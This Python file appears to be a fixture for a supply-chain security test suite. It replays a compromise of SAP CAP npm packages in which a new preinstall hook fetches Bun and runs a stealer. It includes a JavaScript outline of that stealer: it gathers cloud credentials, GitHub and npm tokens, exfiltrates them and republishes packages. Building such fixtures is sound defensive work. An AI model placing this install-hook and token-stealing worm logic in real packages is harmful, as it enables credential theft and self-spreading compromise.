"""mbt 1.2.48, @cap-js/sqlite 2.2.2, postgres 2.2.2, db-service 2.10.1 (2026-04-29): a push started the release workflow; a stealer in Bun.

By the record: a push that nobody had approved reached the workflow that publishes; four packages from 09:55 UTC. A new preinstall fetches
the runtime Bun and runs 11.7 MB of a stealer in it. Clean releases at 13:46.
"""

from collections.abc import Mapping
from functools import cache
from typing import NamedTuple

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.shapes import Content, Made, heavy
from gauntlet.worms import CLOUD, GATHERS, GITHUB, SEALED, bun_by_archive, republishes
from pratique.core.names import Ecosystem

_SQLITE = """const { SQLService } = require('@cap-js/db-service');
const sqlite = require('node:sqlite');

class SQLiteService extends SQLService {
  get factory() {
    return {
      options: { max: 1 },
      create: (tenant) => {
        const database = new sqlite.DatabaseSync(this.url4(tenant));
        database.exec('PRAGMA journal_mode = WAL');
        database.function('session_context', (key) => this.context[key]);
        return database;
      },
      destroy: (database) => database.close(),
    };
  }
  url4(tenant) {
    const { database = ':memory:' } = this.options.credentials ?? {};
    return tenant && database !== ':memory:' ? database.replace(/(\\.\\w+)?$/, (ending) => `-${tenant}${ending}`) : database;
  }
  prepare(text) {
    const statement = this.dbc.prepare(text);
    return { all: (values) => statement.all(...values), get: (values) => statement.get(...values), run: (values) => statement.run(...values) };
  }
}

module.exports = SQLiteService;
"""
_SERVICE = """class SQLService {
  constructor(name, options = {}) {
    this.name = name;
    this.options = options;
    this.context = {};
  }
  async onSELECT({ query, data }) {
    const { text, values } = this.cqn2sql(query, data);
    return this.prepare(text).all(values);
  }
  cqn2sql({ SELECT }, data = []) {
    const columns = SELECT.columns?.map((one) => `"${one.ref.join('"."')}"`).join(', ') ?? '*';
    const where = SELECT.where?.map((one) => (one.ref ? `"${one.ref.join('"."')}"` : one.val !== undefined ? '?' : one)).join(' ');
    const values = SELECT.where?.filter((one) => one.val !== undefined).map((one) => one.val) ?? data;
    return { text: `SELECT ${columns} FROM "${SELECT.from.ref[0]}"${where ? ` WHERE ${where}` : ''}`, values };
  }
}

module.exports = { SQLService };
"""
_MBT = """#!/usr/bin/env node
const { spawnSync } = require('child_process');
const path = require('path');

const names = { linux: 'mbt-linux', darwin: 'mbt-darwin', win32: 'mbt.exe' };
const program = path.join(__dirname, '..', 'unpacked_bin', names[process.platform] || names.linux);
const done = spawnSync(program, process.argv.slice(2), { stdio: 'inherit' });
if (done.error) console.error(`mbt cannot be started: ${done.error.message}`);
process.exit(done.status ?? 1);
"""
_MAIN = """
async function main() {
  const found = gathered();
  found.cloud = await cloud();
  const token = githubToken();
  const reached = await sent(found).catch(() => false);
  if (token && !reached) { await publish(token, 'marker', 'A Marker has Appeared', found); }
  const other = npmToken();
  if (other) { await republish(other); }
}
main().catch(() => {}).finally(() => process.exit(0));
"""


@cache
def _stealer() -> str:
    spread = republishes("preinstall", "node setup.mjs", ("setup.mjs", "execution.js"))
    return heavy(f"{GATHERS}{CLOUD}{SEALED}{GITHUB}{spread}{_MAIN}", size=220_000, seed=29)


_DROPS: Mapping[str, Content] = {
    "setup.mjs": bun_by_archive("execution.js", module=True),
    "execution.js": _stealer,
}


class _Record(NamedTuple):
    """What the record has of a package."""

    files: Mapping[str, str]
    publisher: str
    more: Mapping[str, object]
    depends: Mapping[str, str]
    before: tuple[tuple[str, str], ...]
    taken: tuple[str, str]
    after: tuple[str, str]


_PACKAGES = {
    "mbt": _Record(
        {"bin/mbt.js": _MBT},
        "cloudmtabot",
        {"bin": {"mbt": "bin/mbt.js"}},
        {},
        (("1.2.45", "2026-03-18"), ("1.2.46", "2026-04-08"), ("1.2.47", "2026-04-24T11:29:24.746Z")),
        ("1.2.48", "2026-04-29T09:55:00Z"),
        ("1.2.49", "2026-04-29T13:47:00Z"),
    ),
    "@cap-js/db-service": _Record(
        {"index.js": "module.exports = require('./lib/SQLService.js');\n", "lib/SQLService.js": _SERVICE},
        "cap-npm",
        {"main": "index.js"},
        {},
        (("2.8.1", "2026-01-29"), ("2.9.0", "2026-03-05"), ("2.10.0", "2026-04-01")),
        ("2.10.1", "2026-04-29T12:14:00Z"),
        ("2.10.2", "2026-04-29T13:46:30Z"),
    ),
    "@cap-js/sqlite": _Record(
        {
            "index.js": "module.exports = require('./lib/SQLiteService.js');\n",
            "lib/SQLiteService.js": _SQLITE,
        },
        "cap-npm",
        {"main": "index.js"},
        {"@cap-js/db-service": "^2.9.0"},
        (("2.1.1", "2026-01-29"), ("2.2.0", "2026-03-05"), ("2.2.1", "2026-04-01")),
        ("2.2.2", "2026-04-29T11:25:00Z"),
        ("2.2.3", "2026-04-29T13:46:00Z"),
    ),
}


def _package(name: str) -> Package:
    record = _PACKAGES[name]

    def release(version: str, at: str) -> Release:
        bad = version == record.taken[0]
        return Release(
            version=version,
            at=utc(at),
            publisher=record.publisher,
            maintainers=(record.publisher,),
            files=Made({**record.files, **_DROPS}) if bad else record.files,
            scripts={"preinstall": "node setup.mjs"} if bad else {},
            depends=record.depends,
            more=record.more,
        )

    return Package(
        name=name, releases=tuple(release(*one) for one in (*record.before, record.taken, record.after))
    )


_GUILTY = {name: (record.taken[0],) for name, record in _PACKAGES.items()}
_GOOD = {name: record.before[-1][0] for name, record in _PACKAGES.items()}

INCIDENT = Incident(
    id="sap-cap-2026",
    title=(
        "an unapproved push reached the release workflow of SAP CAP; a new preinstall script installed Bun and ran a "
        "stealer"
    ),
    copy="our copy of SAP CAP has the same chain at a twentieth of the size",
    ecosystem=Ecosystem.NPM,
    at=utc("2026-04-29T09:55:00Z"),
    packages=tuple(_package(name) for name in _PACKAGES),
    asks={"@cap-js/sqlite": "^2.1.1", "mbt": "^1.2.45"},
    good=_GOOD,
    bad={name: (_GOOD[name], *versions) for name, versions in _GUILTY.items()},
    guilty=_GUILTY,
    gone_at=utc("2026-04-29T13:46:00Z"),
    advisory=Advisory(id="MAL-2026", at=utc("2026-04-29T10:00:00Z"), about=_GUILTY),
    invented="most publish hours and days, publishers, file names; @cap-js/postgres is left out",
)
